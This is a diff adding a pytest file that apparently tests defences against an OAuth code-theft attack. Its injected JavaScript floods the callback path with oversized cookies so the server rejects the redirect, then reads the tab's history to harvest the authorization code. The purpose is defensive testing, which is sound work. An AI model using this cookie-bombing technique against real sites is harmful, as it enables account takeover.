@@ -1,0 +1,66 @@
+"""A script removes the door, makes the host refuse the address of the callback, by cookies too large for it, and sends the
+visitor to the provider with a request of its own. Nothing of the site is there where the code arrives. The visitor goes
+back, and the script, there again, reads the tab's history."""
+
+import pytest
+
+from tests.attacks import subjects
+from tests.attacks.speech import ADDRESS, DOORS, TRACES, said
+
+pytestmark = pytest.mark.needs("cdp")  # Firefox's error page takes no orders
+
+LIMIT = 16_384  # bytes of cookies, as of nginx and Apache
+SPOIL = """
+  for (let at = 0; at < cookies; at += 1) document.cookie = `spoil${at}=${"x".repeat(4000)}; path=/callback/`;
+  await unhinge();
+  setTimeout(() => location.assign(address({})));"""
+READ = said(TRACES, "return traces();")
+CLEAN = """async () => {
+  for (let at = 0; at < 20; at += 1) document.cookie = `spoil${at}=; path=/callback/; max-age=0`;
+}"""
+
+
+@pytest.fixture(scope="module")
+def ours_refusing():
+    """The example at a host that sends the site's headers with its refusals too."""
+    with subjects.ours(LIMIT) as subject:
+        yield subject
+
+
+def act(scene, cookies=20):
+    """20 cookies are more than the test's own server reads: it cuts the connection without any answer."""
+    visitor, subject = scene.visitor, scene.subject
+    subject.sign_in(visitor)
+    before = subject.codes()
+    scene.run(said(ADDRESS, DOORS, f"const cookies = {cookies};", SPOIL), leaves=True)
+    visitor.until(lambda: subject.codes() > before, "the provider was not asked")
+    visitor.rest(2)
+    visitor.back()
+    visitor.wait(
+        "async (site) => location.origin === site && document.readyState === 'complete'", subject.url
+    )
+    for _ in range(4):
+        scene.run(READ)
+        visitor.rest(0.5)
+    visitor.run(CLEAN)
+
+
+def refused(scene):
+    """8 cookies are read, and are more than LIMIT."""
+    act(scene, cookies=8)
+
+
+def test_page_held(assault, page_held):
+    assert assault(page_held).stolen
+
+
+def test_ours(assault, ours):
+    outcome = assault(ours)
+    assert ours.codes(), "no code was sent to the script's request"
+    assert outcome.stolen == ()
+
+
+def test_ours_where_refusals_have_the_headers_of_the_site(assault, ours_refusing):
+    outcome = assault(ours_refusing, "", refused)
+    assert ours_refusing.codes(), "no code was sent to the script's request"
+    assert outcome.stolen == ()
